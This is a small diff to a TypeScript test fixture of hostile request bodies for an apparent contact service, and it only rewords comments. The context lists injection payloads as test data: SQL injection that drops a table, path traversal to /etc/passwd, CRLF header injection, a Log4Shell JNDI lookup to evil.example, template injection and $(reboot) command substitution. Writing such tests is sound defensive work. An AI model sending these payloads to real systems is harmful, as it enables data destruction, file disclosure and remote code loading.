@@ -5,7 +5,7 @@ export interface HostileBody {
   readonly name: string;
   readonly body: string | Buffer;
   readonly headers?: readonly string[];
-  /** a body that could be read is kept among the refused contacts, where a supervisor sees it */
+  /** a body that can be parsed is kept as a refused contact, where a supervisor sees it */
   readonly allowed: 'nothing' | 'kept for the supervisor';
 }
 
@@ -186,7 +186,7 @@ const others = [
 
 export const misfitBodies: readonly HostileBody[] = [...unfit, ...wrongTypes, ...others];
 
-/** Odd, and nobody's fault: they come back as they were sent. */
+/** Unusual but valid: they are returned as they were sent. */
 export const legalBodies = [
   "'; DROP TABLE contacts; --",
   '" OR 1=1 --',
@@ -199,7 +199,7 @@ export const legalBodies = [
   '＝1+1',
   '../../etc/passwd',
   '%00%0d%0aSet-Cookie: a=b',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker writes it
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: written as an attacker would
   '${jndi:ldap://evil.example}',
   '{{7*7}}',
   '$(reboot) `reboot`',
